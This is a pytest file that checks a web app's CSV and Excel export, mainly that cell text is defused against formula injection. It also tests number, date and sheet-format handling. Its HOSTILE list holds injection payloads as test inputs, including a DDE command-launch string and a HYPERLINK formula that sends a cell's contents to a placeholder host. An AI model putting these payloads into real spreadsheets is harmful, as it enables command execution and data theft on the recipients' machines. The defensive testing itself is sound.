"""Tables going out: typed cells, no formulas, equal bytes for equal tables."""

import csv
import io
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.support.tables import SHEET, read_part
from web.sheets.formulas import disarm, is_live, restore
from web.sheets.read import read_table
from web.sheets.write import LONGEST_TEXT, Cell, write_csv, write_xlsx

ZONE = ZoneInfo("Asia/Shanghai")
AT = datetime(2026, 3, 18, 8, 42, tzinfo=UTC)

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "=cmd|'/C calc'!A0",
    "|calc",
    "%0A=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1",
    "\ttext",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x7f=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1+1",
    "''=1+1",
    "' =1+1",
)
HARMLESS = ("≥95%", "网上办件 100%", "a=b", "1-2", "'quoted'", "—", "", "#N/A", "TRUE", "12", "'")


def read_csv(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def to_csv(rows: Sequence[Sequence[Cell]], columns: Sequence[str] = ("列",)) -> bytes:
    return b"".join(write_csv(columns, rows, zone=ZONE))


def to_xlsx(rows: Sequence[Sequence[Cell]], columns: Sequence[str] = ("列",)) -> bytes:
    return write_xlsx(columns, rows, zone=ZONE, at=AT)


def open_sheet(raw: bytes) -> Any:
    return load_workbook(io.BytesIO(raw)).worksheets[0]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_a_formula(text: str) -> None:
    ((heading,), (cell,)) = read_csv(to_csv([[text]], columns=[text]))
    for written in (heading, cell):
        assert written.startswith("'")
        assert not is_live(written)
    raw = to_xlsx([[text]], columns=[text])
    sheet = open_sheet(raw)
    for typed in (sheet["A1"], sheet["A2"]):
        assert typed.data_type == "s"
        assert typed.quotePrefix or typed.value.startswith("'")
    assert "<f" not in read_part(raw, SHEET)


@pytest.mark.parametrize(
    ("text", "stored"),
    [("=100%", "=100%"), ("-3", "-3"), ("'=1", "''=1"), ("''=1", "'''=1"), ("'a'", "'a'")],
)
def test_a_workbook_needs_no_apostrophe(text: str, stored: str) -> None:
    """Only a text that begins with one gets a second, which is taken off when it is read."""
    raw = to_xlsx([[text]])
    assert open_sheet(raw)["A2"].value == stored
    assert read_table("t.xlsx", raw)[1] == [text]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert read_csv(to_csv([[text]]))[1] == [text]
    cell = open_sheet(to_xlsx([[text]]))["A2"]
    assert (cell.value or "", cell.data_type) == (text, "s" if text else "n")


@given(st.text())
def test_an_apostrophe_comes_off_again(text: str) -> None:
    assert restore(disarm(text)) == text
    assert not is_live(disarm(text))


@given(st.lists(st.text(alphabet="=+-@＝'|% \t\r\n\"',;a网", max_size=6), min_size=1, max_size=4))
def test_what_is_written_is_read_back(texts: list[str]) -> None:
    """Line ends are made plain; a blank cell is an empty one."""
    plain = [text.replace("\r\n", "\n").replace("\r", "\n") for text in texts]
    wanted = [text if text.strip() else "" for text in plain]
    while wanted and not wanted[-1]:
        wanted.pop()
    columns = [f"列{number}" for number in range(len(texts))]
    for name, raw in (("t.csv", to_csv([texts], columns)), ("t.xlsx", to_xlsx([texts], columns))):
        assert read_table(name, raw)[1:] == ([wanted] if wanted else [])


def test_a_character_spelled_by_its_number_stays_spelled() -> None:
    raw = to_xlsx([["_x003D_1+1"]])
    assert "_x005F_x003D_1+1" in read_part(raw, SHEET)
    assert read_table("t.xlsx", raw)[1] == ["_x003D_1+1"]


NUMBERS = ("-5", "-0.50", "18.36", "0", "0.00", "123456789012.34", "1E+2", "0.0123456789012345")


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_stay_exact_numbers(text: str) -> None:
    number = Decimal(text)
    plain = f"{number:f}"
    assert read_csv(to_csv([[number]]))[1] == [plain]
    cell = open_sheet(to_xlsx([[number]]))["A2"]
    assert (cell.data_type, Decimal(str(cell.value))) == ("n", number)
    places = len(plain.partition(".")[2])
    assert cell.number_format == ("0." + "0" * places if places else "0")


def test_a_number_with_more_digits_than_excel_keeps_is_text() -> None:
    row: list[Cell] = [Decimal("-12345678901234.56"), 10**17, Decimal("0.001234567890123456")]
    cells = open_sheet(to_xlsx([row], columns=["甲", "乙", "丙"]))[2]
    assert [cell.data_type for cell in cells] == ["s", "s", "s"]
    assert [cell.value for cell in cells] == [f"{Decimal(str(value)):f}" for value in row]


@pytest.mark.parametrize("write", [to_csv, to_xlsx])
@pytest.mark.parametrize("text", ["NaN", "sNaN", "Infinity", "-Infinity"])
def test_what_is_no_number_is_no_cell(write: Any, text: str) -> None:
    with pytest.raises(ValueError, match="finite"):
        write([[Decimal(text)]])


def test_times_are_on_the_clock_of_the_site() -> None:
    row: list[Cell] = [AT.replace(microsecond=999_999), date(2026, 6, 30), True, None, 7]
    columns = ["时间", "日期", "是否", "空", "数"]
    texts = ["2026-03-18 16:42:00", "2026-06-30", "TRUE", "", "7"]
    assert read_csv(to_csv([row], columns))[1] == texts
    cells = open_sheet(to_xlsx([row], columns))[2]
    assert [cell.value for cell in cells] == [
        datetime(2026, 3, 18, 16, 42),  # noqa: DTZ001 -- a spreadsheet has no zones
        datetime(2026, 6, 30),  # noqa: DTZ001
        True,
        None,
        7,
    ]
    assert [cell.is_date for cell in cells] == [True, True, False, False, False]
    assert read_table("t.xlsx", to_xlsx([row], columns))[1] == texts


@pytest.mark.parametrize("write", [to_csv, to_xlsx])
def test_an_instant_without_a_zone_is_no_instant(write: Any) -> None:
    with pytest.raises(ValueError, match="zone"):
        write([[AT.replace(tzinfo=None)]])


def test_csv_is_what_excel_opens() -> None:
    raw = to_csv([["a,b", 'c"d'], ["e;=1", "f\r\ng"]], columns=["甲", "乙"])
    text = '"甲","乙"\r\n"a,b","c""d"\r\n"e;=1","f\ng"\r\n'
    assert raw == b"\xef\xbb\xbf" + text.encode()


def test_xlsx_has_a_heading_that_stays_and_a_filter() -> None:
    sheet = open_sheet(to_xlsx([["网上办件事项" * 3, 1], ["x", 2]], columns=["指标名称", "分值"]))
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:B3")
    assert [cell.font.bold for cell in sheet[1]] == [True, True]
    assert not sheet["A2"].font.bold
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (38, 8)


def test_what_xml_cannot_hold_is_left_out() -> None:
    bad = "a\x00b\x0bc\x1fd\ud800e\uffffファイル\tx"
    assert open_sheet(to_xlsx([[bad]]))["A2"].value == "abcdeファイル\tx"
    assert read_csv(to_csv([[bad]]))[1] == ["abcdeファイル\tx"]


@pytest.mark.parametrize("text", ["字" * 40_000, "😀" * 20_000, "_x0041_" * 5000])
def test_a_text_too_long_for_a_cell_is_cut(text: str) -> None:
    value = open_sheet(to_xlsx([[text]]))["A2"].value
    assert value.endswith("…")
    assert LONGEST_TEXT - 1 <= len(value.encode("utf-16-le")) // 2 <= LONGEST_TEXT
    assert read_csv(to_csv([[text]]))[1] == [text]


def test_equal_tables_are_equal_files(monkeypatch: pytest.MonkeyPatch) -> None:
    rows: list[list[Cell]] = [["甲", Decimal("1.50"), AT]] * 300
    columns = ["一", "二", "三"]
    first = write_xlsx(columns, rows, zone=ZONE, at=AT, title="指标")
    monkeypatch.setattr("time.time", lambda: 1_900_000_000.0)
    assert write_xlsx(columns, iter(rows), zone=ZONE, at=AT, title="指标") == first
    later = AT.replace(year=2027)
    assert write_xlsx(columns, rows, zone=ZONE, at=later, title="指标") != first
    properties = load_workbook(io.BytesIO(first)).properties
    assert properties.created == properties.modified == AT.replace(tzinfo=None)


def test_the_name_of_a_sheet_is_one_that_excel_takes() -> None:
    raw = write_xlsx(["a"], [], zone=ZONE, at=AT, title="2026/项目:[自评]" + "长" * 40)
    assert open_sheet(raw).title == ("2026 项目  自评 " + "长" * 40)[:31]
